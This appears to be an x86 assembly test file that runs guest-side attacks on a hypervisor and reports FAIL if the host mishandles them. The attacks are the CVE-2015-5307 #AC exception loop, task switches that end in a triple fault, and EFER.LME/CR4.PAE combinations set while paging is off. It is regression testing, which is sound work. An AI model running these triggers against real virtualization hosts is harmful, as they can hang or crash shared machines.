; SPDX-License-Identifier: MIT
; Attacks that need 32-bit protected mode: the first letter of the command line chooses.
%include "tiny.inc"
TINY_32

NOWHERE		equ 0xe0000000		; no RAM, no device
TSS_NEW		equ 0x30000
TSS_OLD		equ 0x31000
IDT32		equ 0x32000
MSR_EFER	equ 0xc0000080
EFER_LME	equ 1 << 8
CR4_PAE		equ 1 << 5
USER_CODE	equ 0x33
USER_DATA	equ 0x3b
RING0_STACK	equ 0x8000
USER_STACK	equ 0x7003		; misaligned, and so is each frame that is pushed there
RFLAGS_AC	equ 0x40000

main:
	SAY	"at it"
	mov	esi, gdt
	mov	edi, attack_gdt
	mov	ecx, 12
	rep	movsd
	lgdt	[attack_gdt_ptr]
	mov	word [attack_gdt + 0x40], 0x67		; TSS_OLD
	mov	dword [attack_gdt + 0x42], TSS_OLD
	mov	word [attack_gdt + 0x45], 0x0089
	mov	word [attack_gdt + 0x48], 0x67		; TSS_NEW
	mov	dword [attack_gdt + 0x4a], TSS_NEW
	mov	word [attack_gdt + 0x4d], 0x0089
	mov	dword [TSS_OLD + 4], RING0_STACK
	mov	dword [TSS_OLD + 8], DATA
	mov	ax, 0x40
	ltr	ax
	mov	ebx, [boot_info]
	mov	ebx, [ebx + 16]
	cmp	byte [ebx], 't'
	je	task_switch
	cmp	byte [ebx], 'l'
	je	lme

; The handler of #AC has a misaligned stack in ring 3: delivering #AC raises #AC again (CVE-2015-5307).
ac_loop:
	mov	eax, .handler
	mov	[IDT32 + 17 * 8], ax
	mov	word [IDT32 + 17 * 8 + 2], USER_CODE
	mov	word [IDT32 + 17 * 8 + 4], 0xee00
	shr	eax, 16
	mov	[IDT32 + 17 * 8 + 6], ax
	lidt	[.idt_ptr]
	mov	eax, cr0
	or	eax, 1 << 18
	mov	cr0, eax
	push	USER_DATA
	push	USER_STACK
	push	RFLAGS_AC | 0x3002
	push	USER_CODE
	push	.user
	iretd
.user:	mov	ax, USER_DATA
	mov	ds, ax
	mov	eax, [0x200001]
	SAY	"FAIL the access was carried out"
.handler:
	SAY	"FAIL the handler ran"
	DONE
.idt_ptr:
	dw	18 * 8 - 1
	dd	IDT32

; Two task switches that must fail: to a TSS outside of memory, and, by a task gate for #TS, to a task without segments.
; The #TS of the second makes a double fault, which has no gate either: a triple fault.
task_switch:
	cmp	byte [ebx + 5], 'l'
	je	.loop
	mov	byte [attack_gdt + 0x4f], NOWHERE >> 24
	jmp	0x48:0
	SAY	"FAIL the task was switched"
	DONE
.loop:	mov	word [IDT32 + 10 * 8 + 2], 0x48
	mov	word [IDT32 + 10 * 8 + 4], 0x8500
	lidt	[ac_loop.idt_ptr]
	mov	word [attack_gdt + 0x48], 0x66		; too small by one: #TS
	jmp	0x48:0
	SAY	"FAIL the task was switched"
	DONE

; EFER.LME and CR4.PAE in all combinations while paging is off, and an exit in each: it must bring the host's paging back.
%macro LME_PAE 3			; EFER.LME, CR4.PAE, name
	mov	ecx, MSR_EFER
	rdmsr
	and	eax, ~EFER_LME
	or	eax, %1
	wrmsr
	cpuid
	mov	eax, cr4
	and	eax, ~CR4_PAE
	or	eax, %2
	mov	cr4, eax
	cpuid
	mov	ecx, MSR_EFER
	rdmsr
	and	eax, EFER_LME | EFER_LME << 2	; LMA: not without paging
	CHECK_EQ eax, %1, %3
%endmacro

lme:	LME_PAE	EFER_LME, 0, "lme.before-pae"
	LME_PAE	EFER_LME, CR4_PAE, "lme.then-pae"
	LME_PAE	0, CR4_PAE, "lme.off"
	LME_PAE	EFER_LME, CR4_PAE, "lme.behind-pae"
	LME_PAE	EFER_LME, 0, "lme.pae-off"
	LME_PAE	0, 0, "lme.both-off"
	DONE

align 8
attack_gdt:
	times 6 dq 0
	dq	0x00cffa000000ffff	; user code
	dq	0x00cff2000000ffff	; user data
	dq	0, 0			; two TSS
attack_gdt_ptr:
	dw	$ - attack_gdt - 1
	dd	attack_gdt
